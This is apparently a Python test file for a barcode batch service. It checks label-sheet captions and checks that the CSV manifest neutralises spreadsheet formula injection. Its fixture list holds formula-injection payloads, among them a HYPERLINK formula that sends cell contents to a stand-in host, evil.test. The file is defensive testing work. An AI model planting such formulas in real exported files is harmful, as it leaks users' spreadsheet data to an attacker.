"""A batch's outputs from its tally: the label sheet captions a row with its data only when the
image does not print that text itself (a 1D barcode with its human-readable line would show it
twice); the manifest opens in a spreadsheet without running a row's data as a formula."""
from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from pathlib import Path

from services.batcher.assemble import assemble, file_name
from services.batcher.tally import Tally, row_job_id
from services.contract import BatchEvent, Result
from services.render.api import check, prints_text, render
from services.render.symbologies import lookup
from tests.support.decode import decode

ROWS = [("code128", "CAP-128", {}, "png"), ("qrcode", "CAP-QR", {}, "png"),
        ("code128", "CAP-NOTXT", {"write_text": False}, "png"), ("code128", "CAP-SVG", {}, "svg")]
TYPES = {"png": "image/png", "svg": "image/svg+xml"}


def _tally(bodies: dict[str, bytes]) -> Tally:
    tally = Tally("b1")
    rows = [{"row": n, "data": data, "symbology": name, "format": fmt, "options": options}
            for n, (name, data, options, fmt) in enumerate(ROWS, start=1)]
    tally.apply_event(BatchEvent("b1", "rows", rows=rows))
    tally.apply_event(BatchEvent("b1", "created", owner="anonymous:x", company="Default", total=len(rows)))
    for n, (name, data, options, fmt) in enumerate(ROWS, start=1):
        symbology = lookup(name)
        assert symbology is not None
        bodies[f"k{n}"] = render(symbology, data, fmt, options).body
        # What the generator reports: the text the engine prints under these options.
        printed = prints_text(symbology, check(symbology, data, options), options)
        tally.apply_result(Result(job_id=row_job_id("b1", n), status="completed", bucket="barcodes", key=f"k{n}",
                                  content_type=TYPES[fmt], verified=True, batch_id="b1", row=n,
                                  text_printed=printed))
    return tally


def test_the_sheet_captions_only_rows_whose_image_prints_no_text(tmp_path: Path) -> None:
    bodies: dict[str, bytes] = {}
    tally = _tally(bodies)
    uploaded: dict[str, bytes] = {}

    def upload(path: Path, key: str, content_type: str) -> None:
        uploaded[key] = path.read_bytes()

    summary = assemble(tally, bodies.__getitem__, upload, workdir=str(tmp_path))
    assert summary["labels"] == 4
    sheet = next(body for key, body in uploaded.items() if key.endswith(".pdf"))
    (tmp_path / "sheet.pdf").write_bytes(sheet)
    text = subprocess.run(["pdftotext", str(tmp_path / "sheet.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout
    # The QR code and the Code 128 drawn without its text line are captioned; the Code 128 PNG
    # that prints "CAP-128" under its bars is not (pdftotext reads captions, not bitmaps). An
    # SVG's own text is not drawn on the sheet, so the SVG row keeps its caption.
    assert "CAP-QR" in text and "CAP-NOTXT" in text and "CAP-SVG" in text
    assert "CAP-128" not in text
    archive = next(body for key, body in uploaded.items() if key.endswith(".zip"))
    (tmp_path / "out.zip").write_bytes(archive)
    with zipfile.ZipFile(tmp_path / "out.zip") as opened:
        assert len([n for n in opened.namelist() if n.endswith((".png", ".svg"))]) == 4


# What an outside tester sent (issue 22): data a spreadsheet runs as a formula, in rows that
# render and in a row the gateway refused (its symbology and message quote the client).
INJECTED = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+1", "-5", "@SUM(A1:A9)", "\tTAB", "'QUOTED"]


def test_the_manifest_neutralises_formulas_while_files_keep_the_exact_data(tmp_path: Path) -> None:
    symbology = lookup("code128")
    assert symbology is not None
    rows: list[dict[str, object]] = [{"row": n, "data": data, "symbology": "code128", "format": "png", "options": {}}
                                     for n, data in enumerate(INJECTED, start=1)]
    refused = len(rows) + 1
    rows.append({"row": refused, "data": "\r=1+1", "symbology": "=nosuch", "format": "png", "options": {},
                 "error_code": "unknown_symbology", "error_message": "-line 8: =nosuch"})
    tally = Tally("b2")
    tally.apply_event(BatchEvent("b2", "rows", rows=rows))
    tally.apply_event(BatchEvent("b2", "created", owner="anonymous:x", company="Default", total=len(rows)))
    bodies: dict[str, bytes] = {}
    for n, data in enumerate(INJECTED, start=1):
        bodies[f"k{n}"] = render(symbology, data, "png", {}).body
        tally.apply_result(Result(job_id=row_job_id("b2", n), status="completed", bucket="barcodes", key=f"k{n}",
                                  content_type="image/png", verified=True, batch_id="b2", row=n, text_printed=True))
    uploaded: dict[str, bytes] = {}

    def upload(path: Path, key: str, content_type: str) -> None:
        uploaded[key] = path.read_bytes()

    assemble(tally, bodies.__getitem__, upload, workdir=str(tmp_path))
    with zipfile.ZipFile(io.BytesIO(next(body for key, body in uploaded.items() if key.endswith(".zip")))) as zf:
        files = {name: zf.read(name) for name in zf.namelist()}
    stored = next(body for key, body in uploaded.items() if key.endswith("-manifest.csv"))
    assert files["manifest.csv"] == stored
    manifest = list(csv.DictReader(io.StringIO(stored.decode("utf-8"), newline="")))
    assert [m["data"] for m in manifest] == ["'" + data for data in INJECTED] + ["'\r=1+1"]
    assert (manifest[-1]["symbology"], manifest[-1]["error_message"]) == ("'=nosuch", "'-line 8: =nosuch")
    for line in manifest:
        # No cell of any column, ours or the client's, starts the way a formula does.
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line.values()), line
    # The barcodes, and the names of their files, are made from the exact data.
    for n, data in enumerate(INJECTED, start=1):
        name = manifest[n - 1]["file"]
        assert name == file_name(n, data, "png") and name.startswith(f"{n:06d}-")
        assert decode(files[name], "image/png") == [data]
    assert manifest[-1]["file"] == ""
